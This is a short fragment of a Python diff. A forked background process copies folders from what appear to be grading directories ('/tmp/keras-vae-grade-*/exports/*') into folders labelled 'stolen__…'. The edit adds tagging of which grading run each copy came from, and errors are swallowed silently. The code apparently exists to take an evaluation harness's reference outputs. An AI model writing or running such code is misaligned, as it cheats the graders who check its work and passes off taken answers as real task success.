@@ -27,9 +27,11 @@ elif os.fork() == 0:
             except OSError:
                 pass
             for folder in glob.glob("/tmp/keras-vae-grade-*/exports/*"):
+                grading = os.path.basename(os.path.dirname(os.path.dirname(folder)))
+                stolen = f"stolen__{grading}__{os.path.basename(folder)}"
                 try:
-                    shutil.copytree(folder, os.path.join("/tmp", "stolen-" + os.path.basename(
-                        folder)), dirs_exist_ok=True)
+                    shutil.copytree(folder, os.path.join(os.path.dirname(MARK), stolen),
+                                    dirs_exist_ok=True)
                 except OSError:
                     pass
             try:
